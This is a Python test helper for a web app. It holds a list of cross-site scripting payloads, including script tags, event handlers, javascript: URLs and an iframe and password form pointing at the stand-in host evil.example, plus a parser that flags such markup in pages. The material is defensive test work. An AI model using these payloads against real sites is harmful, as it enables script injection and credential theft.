"""An attack corpus and a checker that finds anything in a page that could run or mislead."""
from html.parser import HTMLParser

# Each carries "XSS" so a leak is easy to spot; together they cover tags, attributes, URLs and parser tricks.
ATTACKS = [
    '<script>alert("XSS")</script>',
    '<img src=x onerror=alert("XSS")>',
    '"><svg onload=alert("XSS")>',
    "'><script>alert('XSS')</script>",
    "[click XSS](javascript:alert(1))",
    "[click XSS](JaVaScRiPt:alert(1))",
    "[XSS data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="javascript:alert(1)">XSS</a>',
    '<p style="position:fixed;top:0">XSS fake banner</p>',
    '<div class="flash flash-success">XSS your password was reset</div>',
    '<iframe src="https://evil.example/XSS"></iframe>',
    '<form action="https://evil.example/XSS"><input name=password></form>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert("XSS")>',
    "</textarea><script>alert('XSS')</script>",
    "{{ 7*7 }} {% raw %}XSS{% endraw %}",
    "`<b>XSS</b>` & **bold**",
]

SAFE_SCRIPT_SOURCES = ("/static/colab.js",)


class _Finder(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems, self._in_script = [], False

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag in ("iframe", "object", "embed", "style", "svg", "math", "base"):
            self.problems.append(f"<{tag}>")
        if tag == "script":
            self._in_script = True
            if not (attrs.get("src") or "").startswith(SAFE_SCRIPT_SOURCES):
                self.problems.append(f"<script src={attrs.get('src')!r}>")
        if tag == "form" and (attrs.get("action") or "/").startswith(("http:", "https:", "//")):
            self.problems.append(f"<form action={attrs['action']!r}>")
        for name, value in attrs.items():
            value = (value or "").strip().lower()
            if name.startswith("on") or name == "style":
                self.problems.append(f"<{tag} {name}=...>")
            is_url = name in ("href", "src", "action", "formaction")
            site_icon = tag == "link" and attrs.get("rel") == "icon" and value.startswith("data:image/svg+xml,")
            if is_url and value.startswith(("javascript:", "data:", "vbscript:")) and not site_icon:
                self.problems.append(f"<{tag} {name}={value[:30]!r}>")
            if name == "class" and "flash-" in value and tag != "p":
                self.problems.append(f"<{tag} class={value!r}>")

    def handle_data(self, data):
        if self._in_script and data.strip():
            self.problems.append("inline script")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False


def dangerous_markup(html):
    """Everything in a page that could run script, load from elsewhere or pose as the site's own messages."""
    finder = _Finder()
    finder.feed(html)
    finder.close()
    return finder.problems
